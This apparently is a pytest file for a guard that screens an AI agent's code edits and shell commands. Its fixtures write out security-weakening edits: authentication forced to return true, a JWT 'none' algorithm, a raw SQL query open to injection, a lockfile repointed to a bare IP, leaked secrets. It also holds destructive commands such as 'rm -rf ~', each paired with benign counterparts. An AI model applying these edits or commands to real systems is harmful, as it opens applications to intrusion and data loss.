"""A web application's checks taken out by an edit, an R session's everyday code, cloud
storage's policies and signed links, and the files that only print who has access: what
each rule holds for, and the everyday calls beside it that stay free."""

from __future__ import annotations

import pytest

from .conftest import FREE, decided, edit, stopped


@pytest.mark.parametrize(
    ("path", "old", "new", "found"),
    [
        (
            "src/auth/jwt-auth.guard.ts",
            "  canActivate(context: ExecutionContext) {\n    return super.canActivate(context);",
            "  canActivate(context: ExecutionContext) {\n    return true;",
            ("ask", "auth-weakened"),
        ),
        (
            "src/auth.ts",
            "  callbacks: {\n    async signIn({ user }) {\n      return isAllowed(user);",
            "  callbacks: {\n    async signIn() {\n      return true;",
            ("ask", "auth-weakened"),
        ),
        (
            "src/lib/jwt.ts",
            "algorithms: ['RS256'],",
            "algorithms: ['RS256', 'none'],",
            ("ask", "auth-weakened"),
        ),
        (
            "src/middleware.ts",
            "  if (!session) return NextResponse.redirect(new URL('/login', req.url));\n"
            "  return NextResponse.next();",
            "  return NextResponse.next();",
            ("ask", "protection-switched-off"),
        ),
        (
            "src/server.ts",
            "app.use(csrf({ cookie: true }));\napp.use(routes);",
            "app.use(routes);",
            ("ask", "protection-switched-off"),
        ),
        (
            "app/app.R",
            "shinyApp(shinymanager::secure_app(ui), server)",
            "shinyApp(ui, server)",
            ("ask", "protection-switched-off"),
        ),
        (
            "scripts/purge.R",
            "dry_run <- TRUE",
            "dry_run <- FALSE",
            ("ask", "protection-switched-off"),
        ),
        (
            "infra/policies/prod.json",
            '"Sid": "DenyDeletes",\n"Effect": "Deny",',
            '"Sid": "DenyDeletes",\n"Effect": "Allow",',
            ("ask", "protection-switched-off"),
        ),
        (
            "src/config/data-source.ts",
            "  synchronize: process.env.NODE_ENV !== 'production',",
            "  synchronize: true,",
            ("ask", "data-wiped-by-code"),
        ),
        (
            "src/config/data-source.ts",
            "  logging: false,",
            "  logging: false,\n  dropSchema: process.env.RESET_DB === '1',",
            ("ask", "data-wiped-by-code"),
        ),
        (
            "src/orders/orders.service.spec.ts",
            "    expect(total).toBe(10797);\n    expect(tax).toBe(864);",
            "    expect(true).toBe(true);",
            ("ask", "project-gate-lowered"),
        ),
        (
            "tests/testthat/test-model.R",
            'test_that("fit", {',
            'test_that("fit", {\n  skip("flaky")',
            ("ask", "project-gate-lowered"),
        ),
        (
            "renv.lock",
            '"URL": "https://packagemanager.posit.co/cran/latest"',
            '"URL": "http://198.51.100.23:8080/cran"',
            ("deny", "lockfile-source-change"),
        ),
        (
            "src/app/api/users/route.ts",
            "const users = await prisma.user.findMany();",
            "const users = await prisma.$queryRawUnsafe(`SELECT * FROM u WHERE e = '${q}'`);",
            ("ask", "input-run"),
        ),
        (
            "report.qmd",
            "#| echo: false\ncon <- connect()",
            '#| echo: true\nSys.getenv("PGPASSWORD")',
            ("ask", "environment-reported"),
        ),
        (
            "_targets.R",
            "  tar_target(report, render(scores))\n)",
            "  tar_target(report, render(scores)),\n  tar_target(n, purrr::walk(participants$email,"
            " \\(to) blastula::smtp_send(msg, to = to)))\n)",
            ("ask", "mail-to-many"),
        ),
        (
            "_targets.R",
            'tar_option_set(packages = "dplyr")',
            "tar_option_set(controller = crew.aws.batch::crew_controller_aws_batch(workers = 500))",
            ("ask", "spend-cap-lifted"),
        ),
        (
            "scripts/export.R",
            'write.csv(d, "output/export.csv")',
            'write.csv(raw, "/srv/shiny-server/public/export.csv")',
            ("ask", "service-exposed"),
        ),
        # round two: Phoenix, Rails and Laravel job dashboards, frontends, crash reporters
        (
            "config/runtime.exs",
            '  secret_key_base = System.get_env("SECRET_KEY_BASE")',
            '  secret_key_base = "kX9vQ2mL7pR4tY8wZ1aB3cD5eF6gH0jK2lM4nP6qS8uV0x"',
            ("ask", "secret-inlined"),
        ),
        (
            "config/runtime.exs",
            '    check_origin: ["https://app.acme.io"],',
            "    check_origin: false,",
            ("ask", "protection-switched-off"),
        ),
        (
            "config/config.exs",
            'config :phoenix, :filter_parameters, ["password", "token"]',
            "config :phoenix, :filter_parameters, []",
            ("ask", "protection-switched-off"),
        ),
        (
            "config/runtime.exs",
            "    ssl: [verify: :verify_peer],",
            "    ssl: [verify: :verify_none],",
            ("ask", "protection-switched-off"),
        ),
        (
            "config/dev.exs",
            "config :app, App.Mailer, adapter: Swoosh.Adapters.Local",
            'config :app, App.Mailer, api_key: System.get_env("POSTMARK_PROD_KEY")',
            ("ask", "live-target-swapped"),
        ),
        (
            "rel/vm.args.eex",
            "## -name app",
            "-kernel inet_dist_use_interface {0,0,0,0}",
            ("ask", "service-exposed"),
        ),
        (
            "config/routes.rb",
            '  authenticate :user, ->(u) { u.admin? } do\n  mount Sidekiq::Web => "/sq"\n  end',
            '  mount Sidekiq::Web => "/sq"',
            ("ask", "protection-switched-off"),
        ),
        (
            "src/Jobs/Program.cs",
            '    IsReadOnlyFunc = ctx => !ctx.GetHttpContext().User.IsInRole("Admin"),',
            "    IsReadOnlyFunc = _ => false,",
            ("ask", "protection-switched-off"),
        ),
        (
            "app/Providers/HorizonServiceProvider.php",
            "Gate::define('viewHorizon', function ($user) {\n    return $user->isAdmin();\n});",
            "Gate::define('viewHorizon', function ($user = null) {\n    return true;\n});",
            ("ask", "auth-weakened"),
        ),
        (
            "infra/k8s/cronjobs/monthly-invoices.yaml",
            '  schedule: "0 6 1 * *"',
            '  schedule: "* * * * *"',
            ("ask", "money-control-loosened"),
        ),
        (
            "src/queues/emails.ts",
            "  removeOnFail: { age: 3600 },",
            "  removeOnFail: true,",
            ("ask", "protection-switched-off"),
        ),
        (
            "middleware.ts",
            "  const nonce = crypto.randomUUID()",
            "  const nonce = 'YWNtZS1ub25jZQ=='",
            ("ask", "protection-switched-off"),
        ),
        (
            "workbox-config.cjs",
            "  navigateFallbackDenylist: [/^\\/api\\//],\n  swDest: 'sw.js',",
            "  swDest: 'sw.js',",
            ("ask", "protection-switched-off"),
        ),
        (
            "index.html",
            '    <script type="module" src="/src/main.tsx"></script>',
            '    <script src="https://polyfill.io/v3/polyfill.min.js"></script>',
            ("ask", "page-script-unchecked"),
        ),
        (
            "app/layout.tsx",
            "        {children}",
            '        <Script src="https://cdn.jsdelivr.net/gh/someone/x@master/t.js" />',
            ("ask", "page-script-unchecked"),
        ),
        (
            "src/lib/analytics.ts",
            "  gtag('event', 'purchase', { value: order.total });",
            "  gtag('event', 'purchase', { value: order.total, email: user.email });",
            ("ask", "consent-weakened"),
        ),
        (
            "src/components/CardForm.tsx",
            '<input name="cardNumber" />',
            '<input name="cardNumber" data-hj-allow />',
            ("ask", "consent-weakened"),
        ),
        (
            "src/lib/errorReporting.ts",
            "  beforeSend(event) {",
            "  beforeSend(event) {\n    event.extra = { storage: { ...localStorage } };",
            ("ask", "environment-reported"),
        ),
        (
            "src/payments/client.py",
            "import logging",
            "import logging\nhttp.client.HTTPConnection.debuglevel = 1",
            ("ask", "secret-logged"),
        ),
        (
            "src/instrument.ts",
            "dsn: process.env.SENTRY_DSN,",
            'dsn: "https://5f2c@o0.ingest.errors-collector.net/1",',
            ("ask", "people-data-sent"),
        ),
        (
            "ios/App/Session.swift",
            "Crashlytics.crashlytics().setUserID(s.userId)",
            'Crashlytics.crashlytics().setCustomValue(s.accessToken, forKey: "t")',
            ("ask", "secret-logged"),
        ),
        # everyday: a check kept, a test given more, a fixed address, a small pool, the project
        (
            "index.html",
            "  </body>",
            '  <script src="https://cdn.jsdelivr.net/npm/chart.js@4.4.1/dist/chart.umd.min.js"></script>\n'
            "  </body>",
            FREE,
        ),
        (
            "src/instrument.ts",
            "dsn: process.env.SENTRY_DSN,",
            'dsn: "https://5f2c@o1.ingest.sentry.io/1",',
            FREE,
        ),
        (
            "config/routes.rb",
            '  mount Sidekiq::Web => "/sq"',
            '  authenticate :user, ->(u) { u.admin? } do\n  mount Sidekiq::Web => "/sq"\n  end',
            FREE,
        ),
        ("src/lib/jwt.ts", "algorithms: ['RS256'],", "algorithms: ['RS256', 'ES256'],", FREE),
        (
            "src/orders/orders.service.spec.ts",
            "    expect(total).toBe(10797);",
            "    expect(total).toBe(10797);\n    expect(tax).toBe(864);",
            FREE,
        ),
        (
            "tests/testthat/test-model.R",
            'test_that("fit", {',
            'test_that("fit", {\n  skip_if_not_installed("rstan")',
            FREE,
        ),
        (
            "src/config/data-source.ts",
            "  synchronize: true,",
            "  synchronize: process.env.NODE_ENV === 'development',",
            FREE,
        ),
        ("infra/policies/prod.json", '"Effect": "Allow",', '"Effect": "Deny",', FREE),
        (
            "_targets.R",
            'tar_option_set(packages = "dplyr")',
            "tar_option_set(controller = crew::crew_controller_local(workers = 4))",
            FREE,
        ),
        (
            "scripts/export.R",
            'write.csv(d, "output/export.csv")',
            'write.csv(d, "output/export_v2.csv")',
            FREE,
        ),
        (
            "R/notify.R",
            "msg <- compose()",
            'msg <- compose()\nsmtp_send(msg, to = "me@lab.org")',
            FREE,
        ),
    ],
)
def test_edits_that_take_a_check_out_or_reach_people(
    path: str, old: str, new: str, found: tuple[str | None, str | None]
) -> None:
    assert stopped("Edit", edit(path, old, new)) == found


def test_a_signed_link_written_into_a_file_is_a_secret_written() -> None:
    link = (
        "https://acme.blob.core.windows.net/backups?sv=2022-11-02&sp=racwdl"
        "&se=2030-01-01T00:00:00Z&sig=4kXq0m%2Bq7G2t8yB1vZx0cX1kR9pQ3b8nV4sJ2a5mF0E%3D"
    )
    assert (
        stopped("Edit", edit("README.md", "## Data\n", f"## Data\n\n    azcopy copy {link}\n"))[1]
        == "secret-written-to-file"
    )
    assert (
        stopped("Edit", edit("README.md", "## Data\n", "## Data\n\nsee ?sig=<signature>\n")) == FREE
    )


@pytest.mark.parametrize(
    ("command", "found"),
    [
        ("Rscript -e 'x <- rnorm(100); summary(x)'", FREE),
        ("Rscript -e 'd <- readRDS(\"data/derived/set.rds\"); print(table(d$arm))'", FREE),
        ("Rscript -e 'targets::tar_make()'", FREE),
        ("Rscript -e 'nzchar(Sys.getenv(\"GITHUB_PAT\"))'", FREE),
        ("Rscript -e 'for (f in list.files(\"R\")) print(f)'", FREE),
        ("Rscript -e 'cat(Sys.getenv(\"GITHUB_PAT\"))'", ("deny", "secret-variable-name-print")),
        ("Rscript -e 'x <- 1; system(\"rm -rf ~\")'", ("deny", "rm-root-or-home")),
        ("Rscript -e 'x <- mylib::wipe()'", ("ask", "inline-code")),
        (
            'Rscript -e \'options(repos = "http://cran.example.xyz"); install.packages("x")\'',
            ("ask", "inline-code"),
        ),
        ("RSCRIPT -e 'system(\"rm -rf ~\")'", ("deny", "rm-root-or-home")),
        # the files' access lists and capabilities, printed
        ("getfacl /srv/shared", FREE),
        ("getcap -r /usr/bin 2>/dev/null", FREE),
        ("aws s3 sync ./build s3://acme-prod-website --delete --dryrun", FREE),
        ("aws s3 sync ./build s3://acme-prod-website --delete", ("ask", "cloud-change")),
    ],
)
def test_r_code_and_access_lists(command: str, found: tuple[str | None, str | None]) -> None:
    got = decided(command)
    assert (got if got[0] in ("deny", "ask") else FREE) == found
